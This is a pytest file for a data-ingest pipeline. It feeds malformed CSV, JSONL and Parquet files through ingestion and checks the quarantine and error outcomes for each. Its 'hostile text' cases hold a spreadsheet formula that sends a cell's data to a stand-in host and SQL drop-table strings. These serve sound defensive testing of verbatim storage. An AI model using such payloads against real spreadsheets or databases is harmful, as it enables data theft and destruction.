"""The malformed-input corpus: each case is one landing file and the exact outcome it must have.

Outcomes are one of:
* rows loaded (by key) and rows quarantined (by line, with the exact reason), counts adding up in
  `ops.load_audit`; or
* the source's task fails with an `IngestError` naming the file and the problem, nothing of the
  file is loaded (nor the good files parsed in the same chunk: every case here is one chunk) and
  the failure is audited.

Everything runs on a real (file-backed) DuckDB through `ingest_source`, the function the DAG's
ingest tasks call.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import gzip
import io
import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from custseg.config import load_settings
from custseg.steps.ingest import MAX_FIELD_CHARS, IngestError, ingest_source
from custseg.steps.prepare import prepare_warehouse
from custseg.warehouse import connect

DAY = dt.date(2026, 3, 2)
PREV = DAY - dt.timedelta(days=1)
HEADER = ("order_id,order_ts,customer_ref,customer_email,customer_phone,currency,order_total,"
          "discount_amount,item_count,category,order_status,device,promo_code")


def order(order_id: str = "SO-1", ts: str = "2026-03-02T10:00:00+01:00", currency: str = "EUR",
          total: str = "10.50", category: str = "Books", email: str = "a@b.com", ref: str = "CRM-1") -> str:
    return f"{order_id},{ts},{ref},{email},,{currency},{total},0,1,{category},completed,web,"


CRM_HEADER = ("crm_customer_id,email,phone,first_name,last_name,street_address,city,region,country,birth_year,"
              "gender,signup_date,signup_source,loyalty_card,updated_at,social_platform,social_handle,birth_date,"
              "email_opt_in,sms_opt_in,ads_opt_in,consent_updated_at")


def crm(crm_id: str = "C-1", ts: str = "2026-03-02T10:00:00Z", city: str = "York") -> str:
    return f"{crm_id},a@b.com,,Ann,Lee,1 Main St,{city},North,GB,1980,f,2025-01-01,web,,{ts},,,,true,,false,{ts}"


def zip_bytes(content: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("orders.csv", content)
    return buf.getvalue()


NOT_UTF8 = "not valid UTF-8 (if the file is Latin-1 or Windows-1252, set encoding: cp1252 for this source)"


def csv_file(*rows: str, header: str = HEADER, newline: str = "\n") -> bytes:
    return (newline.join([header, *rows]) + newline).encode("utf-8")


EPOCH_MS = int(dt.datetime(2026, 3, 2, 10, tzinfo=dt.UTC).timestamp() * 1000)


def session(session_id: object = "WS-1", started: object = EPOCH_MS, **extra: object) -> dict:
    return {"session_id": session_id, "started_at_ms": started, "crm_customer_id": "CRM-1",
            "user_email": None, "platform": "web", "page_views": 3, "added_to_cart": True, **extra}


def jsonl_file(*records: object) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in records).encode("utf-8")


def pos_file(rows: list[dict], schema: pa.Schema | None = None) -> bytes:
    base = {"receipt_id": "R-1", "store_id": "ST-001", "sold_at_local": "2026-03-02 10:00:00",
            "store_tz": "Europe/Berlin", "loyalty_card": "LC 0012 3456", "currency": "EUR", "amount": 12.5,
            "discount_amount": 0.0, "category": "Books", "is_return": False}
    table = pa.Table.from_pylist([{**base, **r} for r in rows], schema=schema)
    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


@dataclass(frozen=True)
class Case:
    source: str
    content: bytes
    #: keys loaded into raw, in line order
    loaded: tuple[str, ...] = ()
    #: line -> exact quarantine reason
    quarantined: dict[int, str] = field(default_factory=dict)
    #: when set: the task fails with an IngestError matching this regex, naming the file
    error: str | None = None
    #: loaded rows that exactly repeat an earlier row of their key (counted in ops.load_audit)
    duplicates: int = 0
    #: the source's `encoding:` in sources.yml (default: utf-8)
    encoding: str | None = None
    #: the landing "file" is a directory
    directory: bool = False
    #: the file's `.rejects.jsonl` sidecar (records an order export's split rejected upstream)
    sidecar: bytes | None = None
    #: the file's `.meta.json` sidecar (an order export's split: rows dated after the as-of date)
    meta: bytes | None = None


LONG = "x" * (MAX_FIELD_CHARS + 1)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")'
SQL_TEXT = "'); drop table raw.shop_orders; --"

CORPUS: dict[str, Case] = {
    # --- dates ---------------------------------------------------------------------------------
    "unparseable_date": Case("shop_orders", csv_file(order("SO-1"), order("SO-2", ts="31/02/2026 25:00")),
                             ("SO-1",), {2: "unparseable ordered_at: 31/02/2026 25:00"}),
    "impossible_calendar_date": Case("shop_orders", csv_file(order("SO-2", ts="2026-02-30T10:00:00Z")),
                                     (), {1: "unparseable ordered_at: 2026-02-30T10:00:00Z"}),
    "future_date": Case("shop_orders", csv_file(order("SO-3", ts="2026-03-09T10:00:00Z")),
                        (), {1: "future ordered_at: 2026-03-09T10:00:00Z"}),
    "local_evening_is_not_future": Case("shop_orders", csv_file(order("SO-4", ts="2026-03-02T23:30:00-08:00")),
                                        ("SO-4",)),
    "missing_date": Case("shop_orders", csv_file(order("SO-5", ts="")), (), {1: "missing ordered_at"}),
    "epoch_ms_not_a_number": Case("web_sessions", jsonl_file(session("WS-1"), session("WS-2", "yesterday")),
                                  ("WS-1",), {2: "unparseable started_at: yesterday"}),
    "epoch_ms_in_the_future": Case("web_sessions", jsonl_file(session("WS-3", EPOCH_MS + 30 * 86_400_000)),
                                   (), {1: f"future started_at: {EPOCH_MS + 30 * 86_400_000}"}),
    # --- amounts and currencies ------------------------------------------------------------------
    "negative_amount": Case("shop_orders", csv_file(order("SO-1", total="-3.00")), (),
                            {1: "order_total below 0: -3.00"}),
    "non_numeric_amount": Case("shop_orders", csv_file(order("SO-1", total="n/a")), (),
                               {1: "unparseable order_total: n/a"}),
    "thousands_separator_amount": Case("shop_orders", csv_file(order("SO-1", total='"1,234.50"')), (),
                                       {1: "unparseable order_total: 1,234.50"}),
    "amount_overflow": Case("shop_orders", csv_file(order("SO-1", total="1e30")), (),
                            {1: "unparseable order_total: 1e30"}),
    "unknown_currency": Case("shop_orders", csv_file(order("SO-1", currency="XXX")), (),
                             {1: "unknown currency: XXX"}),
    "lower_case_currency_is_fine": Case("shop_orders", csv_file(order("SO-1", currency=" gbp ")), ("SO-1",)),
    "several_problems_in_one_row": Case("shop_orders", csv_file(order("SO-1", total="abc", currency="")), (),
                                        {1: "missing currency; unparseable order_total: abc"}),
    "store_return_may_be_negative": Case("pos_sales", pos_file([{"amount": -12.5, "is_return": True}]),
                                         ("R-1",)),
    "store_sale_unknown_time_zone": Case("pos_sales", pos_file([{"store_tz": "Mars/Olympus"}]), (),
                                         {1: "unparseable sold_at: 2026-03-02 10:00:00"}),
    # --- keys ----------------------------------------------------------------------------------
    "missing_key": Case("shop_orders", csv_file(order("")), (), {1: "missing order_id"}),
    "blank_key": Case("shop_orders", csv_file(order("   ")), (), {1: "missing order_id"}),
    # two different orders under one key in one file: which is real is not ours to guess, both are quarantined
    "conflicting_key": Case("shop_orders", csv_file(order("SO-1"), order("SO-1", total="11.00")), (),
                            {1: "conflicting order_id SO-1: 2 rows with different values (lines 1, 2)",
                             2: "conflicting order_id SO-1: 2 rows with different values (lines 1, 2)"}),
    "conflicting_key_among_good_rows": Case(
        "shop_orders", csv_file(order("SO-1"), order("SO-7", total="1.00"), order("SO-2"), order("SO-7", total="2.00"),
                                order("SO-7", total="3.00")), ("SO-1", "SO-2"),
        dict.fromkeys((2, 4, 5), "conflicting order_id SO-7: 3 rows with different values (lines 2, 4, 5)")),
    # an exact duplicate is loaded as it arrived and counted: staging keeps one (a later re-export of a
    # key, e.g. a refund, arrives in a later file and supersedes it there)
    "exact_duplicate_row": Case("shop_orders", csv_file(order("SO-1"), order("SO-1")), ("SO-1", "SO-1"), duplicates=1),
    "exact_duplicate_jsonl": Case("web_sessions", jsonl_file(session("WS-1"), session("WS-1"), session("WS-1")),
                                  ("WS-1", "WS-1", "WS-1"), duplicates=2),
    "crm_two_versions_in_one_file": Case("crm_customers", csv_file(crm("C-1"), crm("C-1", ts="2026-03-02T11:00:00Z",
                                                                                   city="Leeds"), header=CRM_HEADER),
                                         ("C-1", "C-1")),
    "crm_same_version_differs": Case(
        "crm_customers", csv_file(crm("C-1"), crm("C-1", city="Leeds"), header=CRM_HEADER), (),
        dict.fromkeys((1, 2), "conflicting crm_customer_id C-1: 2 rows with different values (lines 1, 2)")),
    # --- customers -----------------------------------------------------------------------------
    "order_without_customer": Case("shop_orders", csv_file(order("SO-1", ref="", email=""), order("SO-2")), ("SO-2",),
                                   {1: "missing customer (no customer_ref, customer_email, customer_phone)"}),
    "order_with_only_an_email": Case("shop_orders", csv_file(order("SO-1", ref="")), ("SO-1",)),
    "store_sale_without_card_is_anonymous": Case("pos_sales", pos_file([{"loyalty_card": None}]), ("R-1",)),
    "row_of_empty_fields": Case("shop_orders", csv_file(",,,,,,,,,,,,", order("SO-2")), ("SO-2",),
                                {1: "missing order_id; missing ordered_at; missing currency; missing order_total; "
                                    "missing customer (no customer_ref, customer_email, customer_phone)"}),
    "missing_key_jsonl": Case("web_sessions", jsonl_file(session(None)), (), {1: "missing session_id"}),
    "jsonl_record_not_an_object": Case("web_sessions", jsonl_file(session("WS-1"), [1, 2], "text"),
                                       ("WS-1",), {2: "not a JSON object", 3: "not a JSON object"}),
    # --- encodings and quoting -------------------------------------------------------------------
    "utf8_bom": Case("shop_orders", b"\xef\xbb\xbf" + csv_file(order("SO-1")), ("SO-1",)),
    # one undecodable line is quarantined; the others load
    "latin1_line_in_utf8_file": Case(
        "shop_orders", csv_file(order("SO-1")) + order("SO-2", category="M\xfcsli").encode("latin-1") + b"\n"
        + order("SO-3").encode() + b"\n", ("SO-1", "SO-3"), {2: NOT_UTF8}),
    "latin1_file_declared": Case("shop_orders", csv_file(order("SO-1", category="M\xfcsli")).decode().encode("latin-1"),
                                 ("SO-1",), encoding="latin-1"),
    "cp1252_file_declared": Case("shop_orders", csv_file(order("SO-1", category="\u201cBest\u201d \u20ac")).decode()
                                 .encode("cp1252"), ("SO-1",), encoding="windows-1252"),
    "cp1252_undefined_byte": Case("shop_orders", csv_file(order("SO-1")) + order("SO-2").encode() + b"\x81\n",
                                  ("SO-1",), {2: "not valid cp1252"}, encoding="cp1252"),
    "latin1_line_in_utf8_jsonl": Case("web_sessions", jsonl_file(session("WS-1")) + b'{"session_id": "WS-\xe9"}\n'
                                      + jsonl_file(session("WS-3")), ("WS-1", "WS-3"), {2: NOT_UTF8}),
    "utf16_file": Case("shop_orders", csv_file(order("SO-1")).decode().encode("utf-16"), error=r"binary data.*UTF-16"),
    "embedded_newline_in_quotes": Case("shop_orders", csv_file(order("SO-1", category='"Books\nand more"'),
                                                               order("SO-2")), ("SO-1", "SO-2")),
    "delimiter_in_quotes": Case("shop_orders", csv_file(order("SO-1", category='"Books, Music"')), ("SO-1",)),
    "windows_line_endings": Case("shop_orders", csv_file(order("SO-1"), order("SO-2"), newline="\r\n"),
                                 ("SO-1", "SO-2")),
    "mixed_line_endings": Case("shop_orders", csv_file() + (order("SO-1") + "\r\n").encode() + csv_file(
        order("SO-2"), header=""), ("SO-1", "SO-2")),
    "classic_mac_line_endings": Case("shop_orders", (HEADER + "\r" + order("SO-1") + "\r" + order("SO-2") + "\r")
                                     .encode(), ("SO-1", "SO-2")),
    "stray_quote_in_field": Case("shop_orders", csv_file(order("SO-1", category='Bo"oks'), order("SO-2")),
                                 ("SO-1", "SO-2")),
    "blank_line_between_rows": Case("shop_orders", csv_file(order("SO-1"), "", order("SO-2")), ("SO-1", "SO-2")),
    "whitespace_line_between_rows": Case("shop_orders", csv_file(order("SO-1"), "   ", order("SO-3")),
                                         ("SO-1", "SO-3"), {2: "expected 13 fields, found 1"}),
    "nul_byte": Case("shop_orders", csv_file(order("SO-1", category="Bo\x00oks")), (),
                     {1: "category contains a NUL character"}),
    # --- file shapes ---------------------------------------------------------------------------
    "empty_file": Case("shop_orders", b"", error=r"is empty \(no header\)"),
    "header_only": Case("shop_orders", csv_file()),
    "empty_jsonl_is_a_quiet_day": Case("web_sessions", b""),
    "wrong_delimiter": Case("shop_orders", csv_file(order("SO-1").replace(",", ";"), header=HEADER.replace(",", ";")),
                            error=r"lacks required column\(s\).*(wrong delimiter\?)"),
    "truncated_csv_row": Case("shop_orders", csv_file(order("SO-1")) + order("SO-2").encode()[:25], ("SO-1",),
                              {2: "expected 13 fields, found 2"}),
    "truncated_csv_in_quotes": Case("shop_orders", csv_file(order("SO-1")) + b'SO-2,"2026-03-02', ("SO-1",),
                                    {2: "expected 13 fields, found 2"}),
    "short_row_between_good_rows": Case("shop_orders", csv_file(order("SO-1"), "SO-2,2026-03-02T10:00:00Z,C-2",
                                                                order("SO-3")), ("SO-1", "SO-3"),
                                        {2: "expected 13 fields, found 3"}),
    "long_row": Case("shop_orders", csv_file(order("SO-1") + ",extra", order("SO-2")), ("SO-2",),
                     {1: "expected 13 fields, found 14"}),
    "long_last_row_is_not_the_header": Case("shop_orders", csv_file(order("SO-1"), order("SO-2") + ",a,b,c,d,e,f"),
                                            ("SO-1",), {2: "expected 13 fields, found 19"}),
    "thousand_fields": Case("shop_orders", csv_file(order("SO-1") + ",x" * 1000), (),
                            {1: "expected 13 fields, found 1013"}),
    "truncated_jsonl": Case("web_sessions", jsonl_file(session("WS-1")) + b'{"session_id": "WS-2", "star', ("WS-1",),
                            {2: "malformed JSON: Unterminated string starting at: line 1 column 24 (char 23)"}),
    "malformed_jsonl_line_between_good_ones": Case(
        "web_sessions", jsonl_file(session("WS-1")) + b"{'single': 'quotes'}\n" + jsonl_file(session("WS-3")),
        ("WS-1", "WS-3"),
        {2: "malformed JSON: Expecting property name enclosed in double quotes: line 1 column 2 (char 1)"}),
    "gzip_named_csv": Case("shop_orders", gzip.compress(csv_file(order("SO-1"))), error=r"gzip-compressed"),
    "zip_named_csv": Case("shop_orders", zip_bytes(csv_file(order("SO-1"))), error=r"zip archive or an Excel"),
    "parquet_named_csv": Case("shop_orders", pos_file([{}]), error=r"is a Parquet file"),
    "gzip_named_jsonl": Case("web_sessions", gzip.compress(jsonl_file(session("WS-1"))), error=r"gzip-compressed"),
    "directory_instead_of_file": Case("shop_orders", b"", directory=True, error=r"is a directory"),
    "header_repeats_a_column": Case("shop_orders", csv_file(order("SO-1") + ",x", header=HEADER + ",device"),
                                    error=r"repeats column\(s\) device"),
    "header_not_utf8": Case("shop_orders", csv_file(order("SO-1"), header=HEADER + ",n\xb0").replace(
        "n\xb0".encode(), b"n\xb0"), error=r"header is not valid UTF-8"),
    # --- records rejected upstream (an order export's split writes them beside the landing file) --
    "upstream_rejects_are_quarantined": Case(
        "shop_orders", csv_file(order("SO-1")), ("SO-1",),
        {7: "expected 5 fields, found 2", 9: "not valid UTF-8"},
        sidecar=jsonl_file({"source_file": "/exports/orders.csv", "line": 7, "raw_record": "A,B", "reason":
                            "expected 5 fields, found 2"},
                           {"source_file": "/exports/orders.csv", "line": 9, "raw_record": "M\ufffdsli",
                            "reason": "not valid UTF-8"})),
    "malformed_meta_sidecar": Case("shop_orders", csv_file(order("SO-1")), meta=b'{"rows_after_as_of": "many"}',
                                   error=r"\.csv\.meta\.json: rows_after_as_of is 'many', not a count"),
    "malformed_upstream_rejects": Case("shop_orders", csv_file(order("SO-1")), sidecar=b"not json\n",
                                       error=r"rejects.jsonl line 1 is not a reject record"),
    "truncated_parquet": Case("pos_sales", pos_file([{}])[:-20], error=r"cannot read .* as parquet"),
    "not_the_declared_format": Case("pos_sales", csv_file(order("SO-1")), error=r"cannot read .* as parquet"),
    "parquet_missing_column": Case("pos_sales", pos_file([{}]).replace(b"store_id", b"store_ix"),
                                   error=r"lacks required column\(s\)|cannot read"),
    # --- hostile or huge text --------------------------------------------------------------------
    "extremely_long_field": Case("shop_orders", csv_file(order("SO-1", category=LONG), order("SO-2")), ("SO-2",),
                                 {1: f"category longer than {MAX_FIELD_CHARS} characters ({len(LONG)})"}),
    # text is data: custseg stores it verbatim and never evaluates it (no spreadsheet export)
    "formula_injection": Case("shop_orders", csv_file(order("SO-1", category='"' + FORMULA.replace('"', '""') + '"')),
                              ("SO-1",)),
    "sql_looking_text": Case("shop_orders", csv_file(order(SQL_TEXT)),
                             (SQL_TEXT,)),
    "sql_looking_header": Case("shop_orders",
                               csv_file(order("SO-1") + ",x", header=HEADER + ',"a""); drop table x;--"'), ("SO-1",)),
}

SOURCE_FILE = {
    "shop_orders": "shop/orders/{}.csv",
    "web_sessions": "web/sessions/{}.jsonl",
    "pos_sales": "pos/sales/{}.parquet",
    "crm_customers": "crm/customers/{}.csv",
}
KEYS = {"shop_orders": "order_id", "web_sessions": "session_id", "pos_sales": "receipt_id",
        "crm_customers": "crm_customer_id"}
GOOD_PREVIOUS_DAY = {
    "shop_orders": csv_file(order("SO-PREV", ts="2026-03-01T10:00:00Z")),
    "web_sessions": jsonl_file(session("WS-PREV", EPOCH_MS - 86_400_000)),
    "pos_sales": pos_file([{"receipt_id": "R-PREV", "sold_at_local": "2026-03-01 10:00:00"}]),
    "crm_customers": csv_file(crm("C-PREV", ts="2026-03-01T10:00:00Z"), header=CRM_HEADER),
}


#: Cases whose outcome is written differently to PostgreSQL (COPY of text with replacement characters,
#: raw lines instead of JSON records, rows read line by line, conflicts, upstream rejects): they run
#: on both warehouses. Parsing and checks happen in DuckDB whatever the warehouse, so the rest do not.
POSTGRES_CASES = ("latin1_line_in_utf8_file", "cp1252_file_declared", "cp1252_undefined_byte", "truncated_csv_row",
                  "truncated_jsonl", "latin1_line_in_utf8_jsonl", "nul_byte", "conflicting_key",
                  "exact_duplicate_row", "upstream_rejects_are_quarantined", "order_without_customer",
                  "gzip_named_csv", "crm_same_version_differs")


RUNS = [pytest.param(name, "duckdb", id=name) for name in CORPUS] + [
    pytest.param(name, "postgres", id=f"{name}-postgres", marks=pytest.mark.postgres) for name in POSTGRES_CASES]


@pytest.fixture
def settings(tmp_path: Path, request):
    env = {
        "CUSTSEG_DATA_DIR": str(tmp_path),
        "CUSTSEG_LANDING_DIR": str(tmp_path / "landing"),
        "CUSTSEG_DUCKDB_PATH": str(tmp_path / "wh.duckdb"),
    }
    if getattr(request.node, "callspec", None) and request.node.callspec.params.get("warehouse") == "postgres":
        env.update({"CUSTSEG_WAREHOUSE": "postgres", "CUSTSEG_POSTGRES_URL": request.getfixturevalue("pg_database")})
    s = load_settings(env)
    prepare_warehouse(s)
    return s


def _land(settings, source: str, day: dt.date, content: bytes, directory: bool = False,
          sidecar: bytes | None = None, meta: bytes | None = None) -> Path:
    path = settings.landing_dir / SOURCE_FILE[source].format(day.isoformat())
    path.parent.mkdir(parents=True, exist_ok=True)
    if directory:
        path.mkdir()
    else:
        path.write_bytes(content)
    if sidecar is not None:
        path.with_name(path.name + ".rejects.jsonl").write_bytes(sidecar)
    if meta is not None:
        path.with_name(path.name + ".meta.json").write_bytes(meta)
    return path


def _with_encoding(settings, source: str, encoding: str):
    """The settings with a sources file whose `source` declares `encoding:`."""
    doc = yaml.safe_load(settings.sources_file.read_text(encoding="utf-8"))
    doc["sources"][source]["encoding"] = encoding
    path = settings.landing_dir.parent / "sources.yml"
    path.write_text(yaml.safe_dump(doc), encoding="utf-8")
    return dataclasses.replace(settings, sources_file=path)


@pytest.mark.parametrize(("name", "warehouse"), RUNS)
def test_malformed_input(name: str, warehouse: str, settings) -> None:
    case = CORPUS[name]
    table = case.source
    key = KEYS[case.source]
    if case.encoding:
        settings = _with_encoding(settings, case.source, case.encoding)
    # a good file of the previous day is pending in the same run: it must share the case's fate
    _land(settings, case.source, PREV, GOOD_PREVIOUS_DAY[case.source])
    path = _land(settings, case.source, DAY, case.content, case.directory, case.sidecar, case.meta)
    if case.error:
        with pytest.raises(IngestError, match=case.error) as err:
            ingest_source(settings, case.source, DAY, "run-1")
        assert str(path) in str(err.value), "the error must name the file"
        with connect(settings) as wh:
            assert wh.fetchall(f"select count(*) from raw.{table}")[0][0] == 0, "nothing may be half-loaded"
            assert wh.fetchall("select count(*) from raw.quarantine")[0][0] == 0
            audit = wh.fetchall("select status, source_file, error from ops.load_audit")
        assert [(a[0], a[1]) for a in audit] == [("failed", str(path))]
        assert str(path) in audit[0][2]
        return
    results = ingest_source(settings, case.source, DAY, "run-1")
    by_day = {r.partition_date: r for r in results}
    today = by_day[DAY]
    total = len(case.loaded) + len(case.quarantined)
    assert (today.rows_read, today.rows_loaded, today.rows_quarantined) == (
        total, len(case.loaded), len(case.quarantined))
    with connect(settings) as wh:
        loaded = [r[0] for r in wh.fetchall(
            f"select {key} from raw.{table} where _partition_date = %s order by _source_line", (DAY,))]
        quarantined = dict(wh.fetchall(
            "select source_line, reason from raw.quarantine where partition_date = %s order by 1", (DAY,)))
        raw_records = wh.fetchall("select raw_record from raw.quarantine where partition_date = %s", (DAY,))
        audit = wh.fetchall(
            "select rows_read, rows_loaded, rows_quarantined, status, rows_duplicate from ops.load_audit "
            "where partition_date = %s", (DAY,))
        tables = {r[0] for r in wh.fetchall("select table_name from information_schema.tables "
                                             "where table_schema = 'raw'")}
    assert loaded == list(case.loaded)
    assert quarantined == case.quarantined
    assert all(r[0] for r in raw_records), "every quarantined row keeps its raw content"
    assert audit == [(total, len(case.loaded), len(case.quarantined), "success", case.duplicates)]
    assert {"shop_orders", "web_sessions", "pos_sales", "quarantine"} <= tables


def test_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 70


def test_text_is_stored_verbatim(settings) -> None:
    """Formula-looking and SQL-looking text lands byte for byte, and embedded newlines survive."""
    _land(settings, "shop_orders", DAY, csv_file(
        order("SO-1", category='"' + FORMULA.replace('"', '""') + '"'),
        order("SO-2", category='"Books\nand, more"'),
        order(SQL_TEXT),
    ))
    ingest_source(settings, "shop_orders", DAY, "run-1")
    with connect(settings) as wh:
        rows = wh.fetchall("select order_id, category from raw.shop_orders order by _source_line")
    assert rows == [("SO-1", FORMULA), ("SO-2", "Books\nand, more"), (SQL_TEXT, "Books")]


def test_quarantine_keeps_the_raw_record(settings) -> None:
    _land(settings, "shop_orders", DAY, csv_file(order("SO-9", total="n/a")))
    ingest_source(settings, "shop_orders", DAY, "run-1")
    with connect(settings) as wh:
        [(source, file, line, record)] = wh.fetchall(
            "select source, source_file, source_line, raw_record from raw.quarantine")
    assert (source, line) == ("shop_orders", 1)
    assert file.endswith(f"shop/orders/{DAY}.csv")
    assert json.loads(record)["order_total"] == "n/a"
    assert json.loads(record)["order_id"] == "SO-9"
